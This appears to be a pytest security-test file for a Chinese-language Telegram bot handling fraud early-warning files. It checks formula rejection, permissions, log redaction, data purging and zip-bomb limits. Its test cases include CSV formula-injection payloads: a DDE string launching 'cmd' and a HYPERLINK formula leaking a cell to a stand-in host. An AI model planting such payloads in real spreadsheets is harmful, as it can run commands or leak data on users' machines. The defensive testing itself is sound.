"""Security review of the early-warning file, the evidence zip and the export (revB)."""
from __future__ import annotations

import os
import stat
from datetime import date

import pytest

from bot import warnings as domain

from .conftest import OFFICE, TZ, WORKER
from .test_warnings import ROWS, csv_file


async def stored(bot) -> list:
    return await bot.storage.warnings._select("1 = 1")


@pytest.mark.parametrize("column, bad", [(0, '=HYPERLINK("http://x.example/?"&B3,"点我")'), (0, "@SUM(1)"),
                                         (5, "=1+1"), (2, "+cmd|' /C calc'!A0"), (3, "-2+3")])
async def test_a_warning_file_with_a_formula_in_a_text_cell_is_rejected_whole(bot, column, bad):
    row = ROWS[1].split(",")
    row[column] = '"' + bad.replace('"', '""') + '"'
    await bot.document(OFFICE, "预警.csv", csv_file(ROWS[0], ",".join(row)))
    assert await stored(bot) == []
    assert "第 3 行" in bot.last_text(OFFICE) and "公式" in bot.last_text(OFFICE)


async def test_a_phone_written_with_plus_86_is_no_formula(bot):
    await bot.document(OFFICE, "预警.csv", csv_file(ROWS[0].replace("13812341234", "+86 138 1234 1234")))
    assert [w.phone for w in await stored(bot)] == ["13812341234"]


async def test_a_warning_time_far_ahead_is_a_wrong_date(bot):
    await bot.document(OFFICE, "预警.csv", csv_file(ROWS[0], ROWS[1].replace("2026-11-24 09:40", "2099-11-24 09:40")))
    assert await stored(bot) == [] and "第 3 行" in bot.last_text(OFFICE)
    await bot.document(OFFICE, "预警.csv", csv_file(ROWS[1].replace("2026-11-24 09:40", "2026-11-24 23:40")))
    assert len(await stored(bot)) == 1                    # later today: a clock a little ahead is fine


def test_reading_stops_at_the_row_past_the_cap(monkeypatch):
    """A hostile file of a million rows is rejected once the cap is passed, not read to its
    end first (inside the event's transaction): the garbage after the cap (a field the CSV reader
    refuses) is never reached."""
    monkeypatch.setattr(domain, "MAX_ROWS", 10)
    data = csv_file(*[ROWS[0].replace("1234,", f"12{i:02d},", 1) for i in range(12)]) + b"x" * 200_000 + b"\n"
    with pytest.raises(domain.WarningFileError) as err:
        domain.parse("w.csv", data, TZ)
    assert (err.value.row, err.value.key) == (12, "too-many")


def test_only_the_first_columns_are_read():
    data = ("姓名,电话,网格,预警类型,预警时间" + ",x" * 100_000 + "\n" + ROWS[0].split(",", 3)[0] +
            ",13812341234,BHQ-1,刷单,2026-11-24 09:30\n").encode()
    rows = domain.read_table("w.csv", data, 5)
    assert [len(r) for r in rows] == [domain.MAX_COLUMNS, 5]


def _mode(path) -> int:
    return stat.S_IMODE(os.stat(path).st_mode)


def test_the_evidence_zip_is_this_users_only_whatever_the_umask(tmp_path):
    """The 佐证材料 zip (photos of homes, workers' names), from the CLI or the bot: 0600, a
    folder made for it 0700."""
    from bot.evidence_zip import Item, write_zips

    photo = tmp_path / "p.jpg"
    photo.write_bytes(b"\xff\xd8" * 600)
    items = [Item(source=photo, name=f"村/{i}.jpg", size=1200, fields=(f"村/{i}.jpg",) + ("x",) * 9) for i in range(3)]
    old = os.umask(0o022)
    try:
        written = write_zips(items, tmp_path / "new" / "佐证.zip", 2000)
    finally:
        os.umask(old)
    assert len(written) == 3 and all(_mode(p) == 0o600 for p, _ in written)
    assert _mode(tmp_path / "new") == 0o700


async def test_the_progress_table_is_this_users_only_whatever_the_umask(bot, tmp_path):
    """The table names workers and the addresses they went to (python -m bot export --out)."""
    from bot import office
    from storage.models import NewEntry

    grid = await bot.storage.orgs.by_code("BHQ-1")
    await bot.storage.entries.add([NewEntry(
        user_id=(await bot.user(WORKER)).id, org_id=grid.id, kind="visit", measures={"households": 2},
        happened_on=date(2026, 11, 20), address="3组16号", source="flow")], bot.clock.now())
    xlsx = tmp_path / "t.xlsx"
    (tmp_path / "t.xlsx.part").write_bytes(b"")              # a leftover of a crash, world-readable
    os.chmod(tmp_path / "t.xlsx.part", 0o644)
    old = os.umask(0o022)
    try:
        await office.export_month(bot.svc, None, date(2026, 11, 1), date(2026, 11, 30), xlsx)
    finally:
        os.umask(old)
    assert _mode(xlsx) == 0o600


def test_log_level_debug_keeps_the_bot_api_calls_out_of_the_log(tmp_path):
    """At LOG_LEVEL=DEBUG, PTB logs each sendMessage's parameters: a warning card's name and
    phone. Like aiosqlite's and websockets', its debug lines stay off."""
    import logging

    from bot.cli import _setup_logging
    from bot.config import Settings

    root, names = logging.getLogger(), ("telegram", "aiosqlite", "websockets", "httpx")
    saved = root.level, {n: logging.getLogger(n).level for n in names}
    root.setLevel(logging.DEBUG)
    try:
        _setup_logging(Settings(_env_file=None, database_path=tmp_path / "b.sqlite3", log_level="DEBUG"))
        assert not logging.getLogger("telegram.ext.ExtBot").isEnabledFor(logging.DEBUG)
        assert not logging.getLogger("telegram._bot").isEnabledFor(logging.DEBUG)
        assert logging.getLogger("handlers.warnings").isEnabledFor(logging.DEBUG)   # ours still log
    finally:
        root.setLevel(saved[0])
        for n, level in saved[1].items():
            logging.getLogger(n).setLevel(level)


async def test_no_name_or_phone_of_a_warning_in_the_log_through_every_office_and_worker_step(bot, caplog):
    """Rejected files (a bad phone, a time holding a name), /warn step by step, /warnings, 已被骗
    with an amount and a note naming the person, 联系不上, /summary, /export, escalation, purge.
    aiosqlite's lines are off in production (bot/cli.py) and left out here."""
    import logging
    from datetime import timedelta

    from .conftest import WORKER2

    caplog.set_level(logging.DEBUG)
    await bot.document(OFFICE, "预警.csv", csv_file(*ROWS))
    await bot.document(OFFICE, "预警.csv", csv_file("赵六,1361111222,BHQ-1,,,刷单,2026-11-24 09:30"))
    await bot.document(OFFICE, "预警.csv", csv_file("赵六,13611112222,BHQ-1,,,刷单,赵六13611112222"))
    await bot.tick()
    await bot.send(OFFICE, "/warn")
    for typed in ("赵六", "13611112222", "BHQ-2", "刷单", "百花桥村3组"):
        await bot.send(OFFICE, typed)
    await bot.send(OFFICE, "/warnings")
    await bot.tap(WORKER, "已被骗")
    await bot.send(WORKER, "5000")
    await bot.send(WORKER, "张三丰说他已经转账到13812341234")
    await bot.send(WORKER2, "联系不上")
    await bot.send(OFFICE, "/summary")
    await bot.send(OFFICE, "/export")
    for step in (timedelta(hours=24), timedelta(days=100)):
        bot.clock.advance(step)
        await bot.tick()
    assert len(await stored(bot)) == 4
    logged = "\n".join(r.getMessage() + (r.exc_text or "") for r in caplog.records if r.name != "aiosqlite")
    for secret in ("张三丰", "13812341234", "李四", "13900001111", "王五", "13700002222", "赵六", "13611112222",
                   "百花桥村3组"):
        assert secret not in logged, secret


async def test_after_the_retention_the_database_files_hold_no_name_or_phone_even_as_leftovers(bot):
    """Not only the rows: the file's free space (secure_delete) and the WAL's older frames
    (emptied after a purge) no longer hold them either."""
    from datetime import timedelta

    await bot.document(OFFICE, "预警.csv", csv_file(ROWS[0]))
    await bot.tick()
    await bot.tap(WORKER, "已见面劝阻")
    await bot.send(WORKER, "张三丰答应不再转账")
    await bot.storage.db.checkpoint()                       # the rows are in the main file now
    path = bot.settings.database_path
    assert "张三丰".encode() in path.read_bytes()
    bot.clock.advance(timedelta(days=91))
    await bot.tick()
    [w] = await stored(bot)
    assert w.purged_at is not None
    files = [path, path.with_name(path.name + "-wal")]
    raw = b"".join(f.read_bytes() for f in files if f.exists())
    for secret in ("张三丰", "13812341234", "百花桥村3组"):
        assert secret.encode() not in raw, secret


def test_an_xlsx_that_unpacks_to_too_much_is_refused_before_it_is_read(monkeypatch):
    """A zip bomb (a few KB unpacking to gigabytes: openpyxl loads the shared strings whole)
    is refused by its unpacked size, row 1, with the reason."""
    import io
    import zipfile

    from openpyxl import Workbook

    from bot import orgs_import

    book = Workbook()
    book.active.append(["姓名", "电话", "网格", "预警类型", "预警时间"])
    book.active.append(["张三", "13812341234", "BHQ-1", "刷单", "2026-11-24 09:30"])
    out = io.BytesIO()
    book.save(out)
    assert len(domain.parse("w.xlsx", out.getvalue(), TZ)) == 1
    with zipfile.ZipFile(out, "a", zipfile.ZIP_DEFLATED) as zf:
        zf.writestr("xl/padding.bin", b"\0" * (3 << 20))
    monkeypatch.setattr(orgs_import, "MAX_UNPACKED", 2 << 20)
    with pytest.raises(domain.WarningFileError) as err:
        domain.parse("w.xlsx", out.getvalue(), TZ)
    assert (err.value.row, err.value.key) == (1, "unpacked") and "2 MB" in err.value.text("zh")
